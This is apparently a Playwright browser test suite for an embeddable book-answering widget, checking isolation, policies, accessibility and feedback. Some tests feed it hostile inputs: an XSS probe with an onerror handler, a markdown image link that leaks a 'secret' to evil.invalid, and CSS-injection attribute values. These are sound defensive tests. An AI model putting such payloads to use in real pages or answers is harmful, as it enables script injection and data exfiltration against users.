"""The widget in a real browser, on a foreign site."""

from __future__ import annotations

import gzip
import re
import urllib.request
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import expect

from ingest.document import Book
from tests.ui.conftest import PORTAL_PORT, NewPage, Service, Watch, served
from tests.ui.scripted import FIGURES
from ui.auth import new_api_key
from ui.feedback import FeedbackStore

if TYPE_CHECKING:
    from playwright.sync_api import Frame, Page

pytestmark = pytest.mark.browser

Portal = dict[str, tuple[str, str]]
_HOSTILE = (
    "* { letter-spacing: 9px !important; font-size: 40px !important; display: block; "
    "transform: rotate(9deg); color: lime !important } button, iframe { opacity: .1 !important }"
)


def visit(
    page: Page, portal: Portal, service: Service, *, site: str = "portal.test", **parts: str
) -> Page:
    """Open a foreign page with the widget's line in it, and wait for the widget."""
    guide = f"http://guide.test:{service.port}"
    attributes = parts.get("attributes", "")
    text = (
        f'<!doctype html><html lang="en"><title>portal</title>{parts.get("style", "")}'
        f'<body><h1>Portal</h1><script src="{guide}/widget.js" {attributes} async></script>'
    )
    portal["/page"] = (parts.get("policy", "").format(guide=guide), text)
    page.goto(f"http://{site}:{PORTAL_PORT}/page")
    page.wait_for_function("() => Boolean(window.GuideWidget)")
    return page


def frame(page: Page) -> Frame:
    """Give the inside of the widget: a closed root hides its frame from locators."""
    if len(page.frames) < 2:
        page.wait_for_event("frameattached")
    inside = page.frames[1]
    inside.locator("html.framed").wait_for(state="attached")  # its script has run
    return inside


def ask(page: Page, question: str) -> Frame:
    """Ask in the widget and wait for the whole answer."""
    inside = frame(page)
    inside.locator("#question").fill(question)
    inside.locator("#question").press("Enter")
    expect(inside.locator("form button")).to_be_enabled()
    inside.locator(".answer .sources, .answer.refusal, .answer.failed").last.wait_for()
    return inside


def press_button(page: Page) -> None:
    """Reach the widget's button by keyboard, as nothing else on the page takes the focus."""
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")


def test_it_answers_on_a_foreign_site_and_shows_quote_and_source(
    new_page: NewPage, portal: Portal, service: Service, book: Book
) -> None:
    page = visit(new_page(), portal, service)
    assert len(page.frames) == 1  # no frame before it is opened
    press_button(page)
    inside = ask(page, "多少 CEO 担心数据的来源？")
    expect(inside.locator(".answer")).to_contain_text("61%")
    inside.locator(".chip").click()
    mark = inside.locator("#panel mark")
    expect(mark).to_be_visible()
    assert mark.evaluate("n => n.textContent") in book.passages_by_id[FIGURES].text
    expect(mark).to_contain_text("61%")
    expect(inside.locator("#panel")).to_contain_text("200 US CEOs")
    assert page.context.cookies() == []


def test_it_works_under_a_strict_policy_of_the_host(
    new_page: NewPage, portal: Portal, service: Service
) -> None:
    strict = "default-src 'none'; script-src {guide}; frame-src {guide}"
    page = visit(new_page(), portal, service, policy=strict)
    press_button(page)
    expect(ask(page, "多少？").locator(".answer")).to_contain_text("61%")


def test_a_site_not_listed_is_told_so(
    new_page: NewPage, portal: Portal, service: Service, watch: Watch
) -> None:
    watch.provoked = ["frame-ancestors", "violates the following"]
    page = visit(new_page(), portal, service, site="evil.test")
    page.evaluate(
        "() => { window.refused = new Promise(r => addEventListener('guide:refused', () => r(1))) }"
    )
    press_button(page)
    assert page.evaluate("() => window.refused") == 1
    if len(page.frames) > 1:
        page.wait_for_event("framedetached")  # the blank frame gives way to a sentence


def test_escape_closes_from_inside_and_gives_the_focus_back(
    new_page: NewPage, portal: Portal, service: Service
) -> None:
    page = visit(new_page(), portal, service)
    page.evaluate("() => addEventListener('guide:close', () => { window.closed_ = true; })")
    press_button(page)
    inside = frame(page)
    expect(inside.locator("#question")).to_be_focused()
    page.keyboard.press("Escape")
    page.wait_for_function("() => window.closed_")
    assert page.evaluate("() => document.activeElement.shadowRoot === null")  # closed root
    assert page.evaluate("() => document.activeElement !== document.body")
    page.keyboard.press("Enter")  # the button has the focus again
    expect(inside.locator("#question")).to_be_focused()


def test_escape_in_the_quote_closes_the_quote_alone(
    new_page: NewPage, portal: Portal, service: Service
) -> None:
    page = visit(new_page(), portal, service)
    press_button(page)
    inside = ask(page, "多少？")
    inside.locator(".chip").click()
    expect(inside.locator("#panel .panel-title")).to_be_focused()
    page.keyboard.press("Escape")
    expect(inside.locator("#panel")).to_be_hidden()
    expect(inside.locator(".chip")).to_be_focused()
    expect(inside.locator("#question")).to_be_visible()


def test_no_style_leaks_in_or_out(new_page: NewPage, portal: Portal, service: Service) -> None:
    looks = []
    for style in ("", f"<style>{_HOSTILE}</style>"):
        page = new_page(viewport={"width": 700, "height": 500})
        visit(page, portal, service, style=style, attributes="data-open")
        inside = frame(page)
        inside.locator("#question").wait_for()
        page.wait_for_function("() => innerWidth > 0")
        shown = page.evaluate("() => getComputedStyle(document.querySelector('h1')).fontSize")
        looks.append(
            inside.locator("#greeting").evaluate(
                "n => [getComputedStyle(n).letterSpacing, getComputedStyle(n).fontSize, innerWidth]"
            )
        )
        assert shown == ("40px" if style else "32px")
    assert looks[0] == looks[1]


def test_scripts_of_the_host_can_drive_it(
    new_page: NewPage, portal: Portal, service: Service
) -> None:
    page = visit(new_page(), portal, service)
    page.evaluate(
        """() => {
            window.heard = [];
            for (const name of ["ready", "open", "close", "answer"])
                addEventListener(`guide:${name}`, (event) =>
                    window.heard.push([name, event.detail?.answered]));
        }"""
    )
    page.evaluate("() => GuideWidget.ask('多少？')")
    page.wait_for_function("() => window.heard.some(([name]) => name === 'answer')")
    page.evaluate("() => { GuideWidget.toggle(); GuideWidget.open(); GuideWidget.close(); }")
    heard = page.evaluate("() => window.heard")
    assert [name for name, _ in heard] == ["open", "ready", "answer", "close", "open", "close"]
    assert heard[2][1] is True
    assert page.evaluate("() => Object.isFrozen(GuideWidget)")


def test_messages_of_others_are_not_heard(
    new_page: NewPage, portal: Portal, service: Service
) -> None:
    page = visit(new_page(), portal, service, attributes="data-open")
    frame(page).locator("#question").wait_for()
    page.evaluate("() => postMessage({ guide: 'close' }, '*')")
    page.evaluate("() => new Promise(requestAnimationFrame)")
    expect(frame(page).locator("#question")).to_be_visible()


def test_markup_stays_text(new_page: NewPage, portal: Portal, service: Service) -> None:
    page = visit(new_page(), portal, service, attributes='data-open data-title="<b>x</b>"')
    inside = ask(page, "探针 <img src=x onerror=alert(1)>")
    expect(inside.locator(".asked")).to_have_text("探针 <img src=x onerror=alert(1)>")
    expect(inside.locator(".answer")).to_contain_text("![p](https://evil.invalid/?q=secret)")
    expect(inside.locator("h1").first).to_have_text("<b>x</b>")
    assert inside.locator("#log :is(img, script, a, b, code, h1)").count() == 0


def test_a_refusal_and_a_growing_answer(
    new_page: NewPage, portal: Portal, service: Service
) -> None:
    page = visit(new_page(), portal, service, attributes="data-open")
    inside = ask(page, "明天天气怎么样？")
    expect(inside.locator(".answer.refusal")).to_contain_text("本书没有谈到这个问题")
    go = service.data_dir / "go"
    inside.locator("#question").fill("慢慢说")
    inside.locator("#question").press("Enter")
    slow = inside.locator(".answer").last
    expect(slow).to_contain_text("61%")
    expect(slow.locator(".chip")).to_have_count(1)
    go.touch()
    try:
        expect(slow.locator(".chip")).to_have_count(2)
    finally:
        go.unlink()


def test_it_fills_a_phone(new_page: NewPage, portal: Portal, service: Service) -> None:
    page = new_page(viewport={"width": 390, "height": 780})
    visit(page, portal, service, attributes="data-open")
    inside = frame(page)
    inside.locator("#question").wait_for()
    assert inside.locator("body").evaluate("() => [innerWidth, innerHeight]") == [390, 780]
    inside.locator("#close").click()
    expect(inside.locator("#question")).to_be_hidden()


def test_themes_and_odd_attributes(new_page: NewPage, portal: Portal, service: Service) -> None:
    odd = 'data-open data-theme="dark" data-color="red;}*{x" data-position="up"'
    page = visit(new_page(), portal, service, attributes=odd)
    paper = frame(page).locator("body").evaluate("n => getComputedStyle(n).backgroundColor")
    assert max(map(int, re.findall(r"\d+", paper))) < 40


def test_feedback_is_given_in_the_widget_stored_once_and_changed(
    new_page: NewPage, portal: Portal, service: Service
) -> None:
    page = visit(new_page(), portal, service, attributes="data-open")
    page.evaluate("() => addEventListener('guide:answer', (e) => { window.key = e.detail.id; })")
    inside = ask(page, "多少？")
    helpful = inside.get_by_role("button", name="有帮助")
    wrong = inside.get_by_role("button", name="引用不符")
    comment = inside.get_by_role("textbox", name="哪里好，哪里不对？（可不填）")
    expect(comment).to_be_hidden()
    helpful.click()
    expect(comment).to_be_focused()
    expect(inside.get_by_role("status")).to_have_text("谢谢，已记下")
    page.keyboard.press("Enter")  # without a comment
    expect(comment).to_be_hidden()
    expect(helpful).to_be_focused()
    wrong.click()
    expect(wrong).to_have_attribute("aria-pressed", "true")
    expect(helpful).to_have_attribute("aria-pressed", "false")
    comment.fill("注号应为 44")
    inside.get_by_role("button", name="提交").click()
    expect(comment).to_be_hidden()
    key = page.evaluate("() => window.key")
    kept = [f for f in FeedbackStore(service.data_dir).list() if f.answer_id == key]
    assert [(f.rating, f.comment) for f in kept] == [("wrong_citation", "注号应为 44")]


def test_feedback_that_is_not_kept_is_said_so(
    new_page: NewPage, portal: Portal, service: Service, watch: Watch
) -> None:
    watch.provoked = ["503"]
    page = visit(new_page(), portal, service, attributes="data-open")
    inside = ask(page, "多少？")
    page.context.route("**/api/feedback", lambda route: route.fulfill(status=503, body="{}"))
    inside.get_by_role("button", name="没帮助").click()
    expect(inside.get_by_role("status")).to_have_text("没有成功，请稍后再试。")


def test_with_keys_it_answers_on_a_listed_site_and_not_by_itself(
    new_page: NewPage, portal: Portal, tmp_path: Path, watch: Watch
) -> None:
    """Even where the site tells nobody who it is: the frame does."""
    watch.provoked = ["401"]
    settings = {"allowed_origins": f"http://portal.test:{PORTAL_PORT}", "host": "0.0.0.0"}
    with served(tmp_path, api_keys=new_api_key()[1], **settings) as keyed:
        silent = '<meta name="referrer" content="no-referrer">'
        page = visit(new_page(), portal, keyed, style=silent, attributes="data-open")
        expect(ask(page, "多少？").locator(".answer")).to_contain_text("61%")
        alone = new_page()
        alone.goto(f"{keyed.url}/embed")
        alone.locator("#question").fill("多少？")
        alone.locator("#question").press("Enter")
        expect(alone.locator(".answer.failed")).to_contain_text("需要先登录")


def test_the_demo_shows_it_and_the_line(new_page: NewPage, service: Service) -> None:
    page = new_page()
    page.goto(f"{service.url}/widget-demo")
    expect(page.locator("pre")).to_contain_text(f'<script src="{service.url}/widget.js"')
    page.wait_for_function("() => Boolean(window.GuideWidget)")
    page.evaluate("() => GuideWidget.open()")
    expect(frame(page).locator("#greeting")).to_contain_text("您好")


def test_loader_and_embed_page_stay_under_ten_kilobytes(service: Service) -> None:
    """What a browser gets over the wire to show the widget: loader, page, its style and script."""

    def download(path: str) -> bytes:
        asked = urllib.request.Request(f"{service.url}/{path}", headers={"Accept-Encoding": "gzip"})
        with urllib.request.urlopen(asked, timeout=10) as reply:
            packed: bytes = reply.read()
        return packed

    page = gzip.decompress(download("embed")).decode()
    parts = re.findall(r'(?:src|rel="stylesheet" href)="([^"]+)"', page)
    assert len(parts) == 2
    sizes = {path: len(download(path)) for path in ("widget.js", "embed", *parts)}
    assert sum(sizes.values()) <= 10_240, sizes
